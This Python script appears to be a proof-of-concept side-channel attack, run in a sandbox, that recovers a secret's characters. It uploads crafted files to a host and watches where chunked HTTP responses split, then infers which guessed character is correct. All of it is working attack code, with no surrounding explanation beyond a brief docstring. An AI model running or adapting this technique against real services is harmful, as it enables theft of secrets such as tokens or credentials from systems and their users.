"""Runs in a sandbox: guesses how a secret begins from the sizes of the chunks in which a host's answers arrive. Prints JSON.

The host keeps files. Wherever a chunk of an answer ends, the file has a guess; one that is held back was right.
"""

import json
import os
import socket
import ssl
import sys

HOST, NAME = sys.argv[1:3]
SIZE = 1_800_000
ROUNDS = 3
ALPHABET = [chr(code) for code in range(0x21, 0x7F)]
CONTEXT = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])


def exchange(head, body=b""):
    connection = socket.create_connection(("127.0.0.1", 3128), 60)
    connection.sendall(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
    connection.recv(4096)
    with CONTEXT.wrap_socket(connection, server_hostname=HOST) as secured:
        secured.sendall(f"{head} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
        answer = b""
        while more := secured.recv(65536):
            answer += more
    return answer


def chunk_ends(path):
    answer = exchange(f"GET {path}")
    at = answer.index(b"\r\n\r\n") + 4
    total, ends = 0, []
    while True:
        end = answer.index(b"\r\n", at)
        length = int(answer[at:end], 16)
        if length == 0:
            return ends
        total += length
        ends.append(total)
        at = end + 2 + length + 2


def main():
    exchange("PUT /files/plain", b"." * SIZE)
    neutral = [end for end in chunk_ends("/files/plain") if end < SIZE]
    known = os.environ[NAME].split("hmtc")[0]
    beginning = known
    for _ in range(ROUNDS):
        content = bytearray(b"." * SIZE)
        tried = {}
        for end, letter in zip(neutral[1:], ALPHABET):
            guess = (known + letter).encode()
            content[end - len(guess) : end] = guess
            tried[end] = letter
        exchange("PUT /files/guess", bytes(content))
        ends = set(chunk_ends("/files/guess"))
        right = [letter for end, letter in tried.items() if end not in ends and end - len(known) - 1 in ends]
        if len(right) == 1:
            known += right[0]
    print(json.dumps({"guessed": known[len(beginning) :], "pieces": len(neutral)}))


main()
